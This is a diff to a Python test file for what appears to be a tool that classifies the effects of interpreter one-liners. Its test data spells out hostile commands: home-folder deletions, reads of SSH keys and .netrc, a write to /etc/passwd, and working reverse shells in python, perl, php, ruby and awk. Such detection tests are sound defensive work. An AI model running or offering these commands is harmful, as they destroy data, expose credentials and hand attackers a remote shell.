@@ -89,9 +89,15 @@ def test_code_that_only_prints_runs_nothing(line: str) -> None:
         # the home folder interpolated into a string keeps its meaning
         ("perl -MFile::Path=remove_tree -e 'remove_tree(\"$ENV{HOME}/src\")'", ("delete-tree", "$HOME/src")),
         ("ruby -e 'FileUtils.rm_rf(\"#{Dir.home}/src\")'", ("delete-tree", "~/src")),
-        ("ruby -e \"FileUtils.rm_rf(\\\"#{ENV['HOME']}\\\")\"", ("delete-tree", "$HOME")),
-        ("python3 -c 'import os, shutil; shutil.rmtree(f\"{os.path.expanduser(\\\"~\\\")}/src\")'", ("delete-tree", "~/src")),
-        ("node -e 'require(\"fs\").rmSync(`${require(\"os\").homedir()}/src`, {recursive: true})'", ("delete-tree", "~/src")),
+        ('ruby -e "FileUtils.rm_rf(\\"#{ENV[\'HOME\']}\\")"', ("delete-tree", "$HOME")),
+        (
+            'python3 -c \'import os, shutil; shutil.rmtree(f"{os.path.expanduser(\\"~\\")}/src")\'',
+            ("delete-tree", "~/src"),
+        ),
+        (
+            'node -e \'require("fs").rmSync(`${require("os").homedir()}/src`, {recursive: true})\'',
+            ("delete-tree", "~/src"),
+        ),
         ("python3 -c 'print(open(\"/home/u/.ssh/id_rsa\").read())'", ("read", "/home/u/.ssh/id_rsa")),
         ('python3 -c \'open("/etc/passwd", "a").write("x")\'', ("write", "/etc/passwd")),
         ("ruby -e 'puts File.read(File.expand_path(\"~/.netrc\"))'", ("read", "~/.netrc")),
@@ -124,12 +130,12 @@ def test_effects_of_interpreter_code(line: str, effect: tuple[str, str]) -> None
     [
         'python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("10.0.0.1",4242));'
         'os.dup2(s.fileno(),0);pty.spawn("/bin/sh")\'',
-        'perl -e \'use Socket;socket(S,PF_INET,SOCK_STREAM,6);'
+        "perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);"
         'connect(S,sockaddr_in(1,inet_aton("10.0.0.1")));open(STDIN,">&S");exec("/bin/sh -i");\'',
         'php -r \'$sock=fsockopen("10.0.0.1",4242);exec("/bin/sh -i <&3 >&3 2>&3");\'',
         'ruby -rsocket -e \'f=TCPSocket.open("10.0.0.1",4242).to_i;'
         'exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)\'',
-        "awk 'BEGIN {s = \"/inet/tcp/0/10.0.0.1/4242\"; while(1) { s |& getline c;"
+        'awk \'BEGIN {s = "/inet/tcp/0/10.0.0.1/4242"; while(1) { s |& getline c;'
         " while ((c |& getline) > 0) print |& s }}'",
     ],
 )
